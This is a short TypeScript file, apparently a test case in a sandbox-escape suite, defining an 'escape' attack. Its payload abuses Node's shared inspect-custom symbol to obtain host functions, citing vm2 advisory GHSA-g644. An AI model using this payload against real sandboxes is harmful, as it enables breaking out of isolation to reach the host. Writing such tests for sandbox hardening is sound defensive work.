import { attack } from '../attack.ts';

/** Node's inspection calls a method under a symbol that all realms share, and hands its own function over (vm2 GHSA-g644). */
export const escape = attack({
	grants: [],
	source: `
		return { [Symbol.for('nodejs.util.inspect.custom')]: (_depth, options, inspect) => loot(inspect) ?? loot(options) };
	`,
});
